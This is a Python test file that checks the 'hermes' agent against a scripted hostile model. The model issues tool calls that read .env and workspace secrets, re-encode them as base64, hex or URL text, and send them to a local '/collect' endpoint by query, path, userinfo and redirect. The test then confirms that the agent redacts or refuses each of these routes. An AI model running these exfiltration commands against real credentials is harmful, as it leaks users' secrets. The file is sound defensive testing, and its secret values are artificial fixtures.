"""No secret leaks: a hostile scripted model tries, through `hermes chat -q`, every route.

The model asks for tool calls that read, re-encode, echo, quote and send the
secrets of ``HERMES_HOME/.env`` (which also holds a line that is not UTF-8),
copies of which sit in the workspace as a project's own files may. Then every
place a secret could end up is searched, for the raw value and for every
spelling a command or a serialiser makes of it: JSON-escaped, URL-encoded,
base64 at each byte alignment (standard and URL-safe) and hex. The places:
stdout, stderr, every table of state.db, the raw bytes of state.db and its
-wal and -shm files, logs/, Markdown and JSON exports and ``sessions show``,
the requests the model server received, and the requests the web server
received (a request carrying a secret must never arrive at all).

The spellings are computed here independently of ``hermes_agent.redact``
(base64 chunks by comparing two encodings, not by its formula), so the test
does not check the code with itself.
"""

from __future__ import annotations

import base64
import json
import sqlite3
import sys
import urllib.parse
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from conftest import Runner
from hermes_agent.config.envfile import read_env_file, render_env
from peers.llm_server import Reply, ScriptedLLM
from peers.web_server import Page, WebServer

pytestmark = pytest.mark.peer("scripted")

# Secrets with every character that changes how a value is spelt once encoded.
QUOTED = 'q"uo\\te/sl+ash=eq-Zx81Kd93Lm'
BASE64ISH = "tok+/=A9b8C7d6E5f4G3h2Jk"
PATHLIKE = 'pa"ss\\word/seg+9=Qr7Wv4Ty'
PLAIN = "plainsecretvalue0123456789xyz"
SECRETS = {
    "SERVICE_TOKEN": QUOTED,
    "DEPLOY_KEY": BASE64ISH,
    "DB_PASSWORD": PATHLIKE,
    "WEBHOOK_SECRET": PLAIN,
}
PY = sys.executable


def stable_base64(secret: bytes) -> set[str]:
    """The base64 text of ``secret`` that does not depend on its neighbours, per alignment.

    Found by encoding it between two different sets of neighbours and keeping the
    longest run where both encodings agree.
    """
    found: set[str] = set()
    for offset in range(3):
        one = base64.b64encode(b"A" * offset + secret + b"BBB").decode()
        two = base64.b64encode(b"\xff" * offset + secret + b"\x00\x00\x00").decode()
        best, run = "", ""
        for a, b in zip(one, two, strict=True):
            run = run + a if a == b else ""
            best = max(best, run, key=len)
        found.add(best)
    return found


def spellings(secret: str) -> set[str]:
    """The secret and the spellings a leak could take.

    As text it may be escaped (JSON, a Python literal); each of those texts may
    then be URL-encoded, hex-encoded or base64-encoded (a command encoding a
    whole source file encodes the escaped literal).
    """
    texts = {
        secret,
        json.dumps(secret)[1:-1],
        json.dumps(secret, ensure_ascii=True)[1:-1],
        repr(secret)[1:-1],
        secret.replace("\\", "\\\\"),
    }
    forms = set(texts)
    for text in texts:
        data = text.encode()
        forms.update(
            (
                urllib.parse.quote(text, safe=""),
                urllib.parse.quote(text),
                urllib.parse.quote_plus(text),
                data.hex(),
                data.hex().upper(),
            )
        )
        for chunk in stable_base64(data):
            forms.update((chunk, chunk.replace("+", "-").replace("/", "_")))
    return forms


def leaks_in(where: str, text: str | bytes) -> list[str]:
    """Which secret spellings ``text`` holds, named for the failure message."""
    blob = text.encode("utf-8", "replace") if isinstance(text, str) else text
    return [
        f"{where}: {name} as {form!r}"
        for name, secret in SECRETS.items()
        for form in spellings(secret)
        if form.encode() in blob
    ]


def test_spellings_helper_finds_what_commands_produce() -> None:
    """The search itself works: each spelling a real command makes is found."""
    import subprocess

    for secret in SECRETS.values():
        for prefix in ("", "x", "xy"):
            wrapped = subprocess.run(
                ["base64", "-w0"], input=(prefix + secret + "tail").encode(), capture_output=True
            ).stdout
            assert leaks_in("probe", wrapped), (secret, prefix)
        assert leaks_in("probe", json.dumps({"k": secret}))
        assert leaks_in("probe", urllib.parse.urlencode({"q": secret}))


@pytest.fixture
def home(hermes_home: Path, tmp_path: Path) -> Iterator[Path]:
    """A HERMES_HOME whose .env holds the secrets after a line that is not UTF-8."""
    hermes_home.mkdir()
    text = render_env(SECRETS).encode()
    (hermes_home / ".env").write_bytes(b"GREETING=hello\nLATIN=caf\xe9 cr\xe8me\n" + text)
    (hermes_home / ".env").chmod(0o600)
    loaded = read_env_file(hermes_home / ".env")
    assert loaded.values == {"GREETING": "hello", **SECRETS}, "every other key still loads"
    assert loaded.problems == [
        f"{hermes_home / '.env'}:2: not UTF-8 text (line skipped; the other lines load)"
    ]
    (hermes_home / "config.yaml").write_text("approvals:\n  mode: 'off'\n")
    yield hermes_home


def workspace_files(cwd: Path) -> None:
    """A project's own files that happen to hold the same values (no sandbox hides them)."""
    (cwd / "deploy.env").write_text("".join(f"{k}={v}\n" for k, v in SECRETS.items()))
    (cwd / "config.json").write_text(json.dumps({"token": QUOTED, "db": PATHLIKE}, indent=1))
    (cwd / "app.py").write_text(
        f"import os\nTOKEN = {QUOTED!r}\nKEY = {BASE64ISH!r}\n\n\ndef main():\n    return TOKEN\n"
    )


def terminal(command: str) -> tuple[str, dict[str, Any]]:
    return ("terminal", {"command": command})


def script(web: WebServer, home: Path) -> list[Reply]:
    """The hostile model: each tool call is one attempt to get a secret out."""
    b64 = base64.b64encode(QUOTED.encode()).decode()
    attempts: list[list[tuple[str, dict[str, Any]]]] = [
        # 1-4: file tools reading a workspace copy, searching it, patch errors.
        [
            ("read_file", {"path": "deploy.env"}),
            ("search_files", {"pattern": "TOKEN|KEY|PASSWORD|SECRET"}),
            ("patch", {"path": "app.py", "old": "TOKEN = 'something else'", "new": "x"}),
            # A near miss: the error quotes the closest lines of the file, the secret's own.
            ("patch", {"path": "app.py", "old": "TOKEN = 'q\"uo\\\\tx'\nKEY = 'tok'", "new": ""}),
        ],
        # 5-8: the terminal printing them raw, through printenv, and through JSON.
        [
            terminal("cat deploy.env config.json"),
            terminal('export LEAK="$(grep SERVICE deploy.env | cut -d= -f2-)"; printenv LEAK'),
            terminal(f"{PY} -c 'import json; print(json.dumps(open(\"config.json\").read()))'"),
            terminal(f"{PY} -c 'import json; print(json.dumps(json.load(open(\"config.json\"))))'"),
        ],
        # 9-13: base64 at every alignment, wrapped and URL-safe; hex (xxd, od).
        [
            terminal("base64 deploy.env"),
            terminal("(printf x; cat deploy.env) | base64 -w0; echo"),
            terminal("(printf xy; cat deploy.env) | base64 -w0; echo"),
            terminal(
                f'{PY} -c \'import base64; print(base64.urlsafe_b64encode(open("app.py",'
                f'"rb").read()).decode())\''
            ),
            terminal("xxd -p deploy.env; od -An -tx1 deploy.env"),
        ],
        [
            # 14: upper-case hex; 15: URL-encoded, both forms.
            terminal(f'{PY} -c \'print(open("deploy.env","rb").read().hex().upper())\''),
            terminal(
                f'{PY} -c \'import urllib.parse as u; t=open("deploy.env").read(); '
                "print(u.quote(t)); print(u.quote_plus(t))'"
            ),
            # 16: the value decoded from base64 the model "remembered".
            terminal(f"echo {b64} | base64 -d"),
        ],
        # 17-21: web requests carrying a secret: query, path (base64), user info, a hex
        # fragment, and a redirect whose target carries it.
        [
            ("web_fetch", {"url": web.url("/collect") + "?k=" + urllib.parse.quote(QUOTED)}),
            (
                "web_fetch",
                {"url": web.url("/collect/") + base64.urlsafe_b64encode(PLAIN.encode()).decode()},
            ),
            (
                "web_fetch",
                {
                    "url": web.url("/collect").replace(
                        "http://", f"http://u:{urllib.parse.quote(BASE64ISH, safe='')}@"
                    )
                },
            ),
            ("web_fetch", {"url": web.url("/collect") + "#" + PATHLIKE.encode().hex()}),
            ("web_fetch", {"url": web.url("/go")}),
        ],
        # 22-24: secrets in the arguments themselves (the ⚙ line, tool_args, the index),
        # quoted ones included; a write of them into the workspace.
        [
            ("write_file", {"path": "notes.txt", "content": f"remember {QUOTED} and {PATHLIKE}"}),
            terminal(f"echo '{PLAIN}' > /dev/null"),
            ("read_file", {"path": "notes.txt"}),
        ],
        # 25-26: a tool error quoting the value; reading hermes' own .env.
        [
            terminal(f"{PY} -c 'raise SystemExit(open(\"deploy.env\").read())'"),
            ("read_file", {"path": str(home / ".env")}),
        ],
    ]
    steps = [Reply(tool_calls=calls) for calls in attempts]
    # 27: the answer itself repeats a secret, in pieces as it streams.
    steps.append(Reply(f"Done. The token was {QUOTED} and the key {BASE64ISH}.", chunk_size=3))
    return steps


def db_texts(db_path: Path) -> str:
    """Every text value of every table of state.db, and what the index finds."""
    conn = sqlite3.connect(db_path)
    try:
        tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        out: list[str] = []
        for table in tables:
            for row in conn.execute(f'SELECT * FROM "{table}"'):
                out.extend(str(v) for v in row if isinstance(v, str | bytes))
        token = "zx81kd93lm"  # A word of QUOTED as the FTS tokenizer splits it.
        hits = conn.execute(
            "SELECT count(*) FROM messages_fts WHERE messages_fts MATCH ?", (token,)
        ).fetchone()[0]
        assert hits == 0, "the search index holds a piece of a secret"
        return "\n".join(out)
    finally:
        conn.close()


def test_hostile_model_gets_no_secret_out(hermes: Runner, home: Path, tmp_path: Path) -> None:
    cwd = tmp_path / "cwd"
    workspace_files(cwd)
    routes = {
        "/collect": Page("thanks"),
        "/go": Page("", 302, headers={"Location": "/collect?stolen=" + urllib.parse.quote(PLAIN)}),
    }
    from hermes_agent.state.db import StateDB

    StateDB().close()  # Created here, and held open below: the WAL stays on disk to be read.
    keeper = sqlite3.connect(home / "state.db")
    keeper.execute("SELECT count(*) FROM messages").fetchone()
    with WebServer(routes) as web:
        steps = script(web, home)
        with ScriptedLLM(steps) as llm:
            result = hermes(
                "chat",
                "--provider",
                "custom",
                "--base-url",
                llm.openai_base_url,
                "-m",
                "test-model",
                "-q",
                "tidy up the deployment files",
            )
            sent = [json.dumps(r.body) for r in llm.requests]
        received = list(web.requests)
    assert result.returncode == 0, result.stderr
    assert len(sent) == len(steps), "every attempt ran and was answered"

    # The web server saw the one request that carried nothing, and none of the others.
    assert [(r.method, r.path) for r in received] == [("GET", "/go")], received
    # Each refusal reached the model as a clear error naming the variable, never the value.
    tool_results = [m["content"] for m in json.loads(sent[-1])["messages"] if m["role"] == "tool"]
    refusals = [c for c in tool_results if "refused: web_fetch would send the value of" in c]
    assert len(refusals) == 5, tool_results
    assert any("SERVICE_TOKEN (from .env)" in c for c in refusals)
    # The bad byte in .env was reported by line number, and did not switch redaction off.
    assert ".env:2: not UTF-8 text" in result.stderr
    assert "caf" not in result.stderr

    # Redaction did happen (the routes were real, not failing for another reason).
    assert "[REDACTED]" in result.stdout and "[REDACTED]" in result.stderr
    assert any("[REDACTED]" in c for c in tool_results)

    sid_line = hermes("sessions", "list").stdout.splitlines()[1]
    sid = sid_line.split()[0]
    md = hermes("sessions", "export", sid, "-o", str(tmp_path / "export.md"))
    jl = hermes("sessions", "export", sid, "--format", "jsonl")
    shown = hermes("sessions", "show", sid)
    found = hermes("sessions", "search", "TOKEN")
    assert md.returncode == jl.returncode == shown.returncode == 0

    places: dict[str, str | bytes] = {
        "stdout": result.stdout,
        "stderr": result.stderr,
        "state.db tables": db_texts(home / "state.db"),
        "markdown export": (tmp_path / "export.md").read_text(),
        "jsonl export": jl.stdout,
        "sessions show": shown.stdout,
        "sessions search": found.stdout + found.stderr,
        "requests to the model": "\n".join(sent),
        "requests to the web server": "\n".join(
            f"{r.path} {r.query} {r.headers} {r.body!r}" for r in received
        ),
    }
    raw = {path.name: path.read_bytes() for path in sorted(home.glob("state.db*"))}
    keeper.close()
    assert {"state.db", "state.db-wal", "state.db-shm"} <= set(raw), sorted(raw)
    assert len(raw["state.db-wal"]) > 0, "the run's pages are in the WAL"
    places.update({f"raw {name}": data for name, data in raw.items()})
    logs = home / "logs"
    assert (logs / "approvals.jsonl").exists(), "the commands were audited"
    for path in sorted(p for p in logs.rglob("*") if p.is_file()):
        places[f"logs/{path.name}"] = path.read_bytes()
    found_leaks = [leak for where, text in places.items() for leak in leaks_in(where, text)]
    assert not found_leaks, "\n".join(found_leaks)


def test_gateway_replies_carry_no_secret(hermes_home: Path, tmp_path: Path) -> None:
    """Through the gateway's HTTP API: a tool error, a plain answer and a streamed answer."""
    from peers.daemons import free_port
    from test_gateway import Gateway, configure_home

    workdir = tmp_path / "work"
    workdir.mkdir()
    workspace_files(workdir)
    steps = [
        Reply(tool_calls=[terminal(f"{PY} -c 'raise SystemExit(open(\"deploy.env\").read())'")]),
        Reply(f"The token is {QUOTED}; the password {json.dumps(PATHLIKE)}."),
        Reply(f"Streaming {BASE64ISH} and {PLAIN.encode().hex()} now.", chunk_size=2),
    ]
    with ScriptedLLM(steps) as llm:
        port = free_port()
        configure_home(hermes_home, llm, port)
        with (hermes_home / ".env").open("a") as env:
            env.write(render_env(SECRETS))
        gateway = Gateway(hermes_home, port, workdir).wait_ready()
        try:
            client = gateway.client()
            plain = client.chat.completions.create(
                model="hermes-agent", messages=[{"role": "user", "content": "show the token"}]
            )
            pieces = [
                chunk.choices[0].delta.content or ""
                for chunk in client.chat.completions.create(
                    model="hermes-agent",
                    messages=[{"role": "user", "content": "stream it"}],
                    stream=True,
                )
                if chunk.choices
            ]
        finally:
            gateway.terminate()
        sent = "\n".join(json.dumps(r.body) for r in llm.requests)
    answer = plain.choices[0].message.content or ""
    assert answer.startswith("The token is [REDACTED]"), answer
    assert "".join(pieces) == "Streaming [REDACTED] and [REDACTED] now."
    places: dict[str, str | bytes] = {
        "plain answer": answer,
        "streamed answer": "".join(pieces),
        "each streamed piece": "\n".join(pieces),
        "requests to the model": sent,
        "gateway output": gateway.output(),
    }
    for path in sorted(hermes_home.glob("state.db*")) + sorted((hermes_home / "logs").rglob("*")):
        if path.is_file():
            places[path.name] = path.read_bytes()
    found_leaks = [leak for where, text in places.items() for leak in leaks_in(where, text)]
    assert not found_leaks, "\n".join(found_leaks)
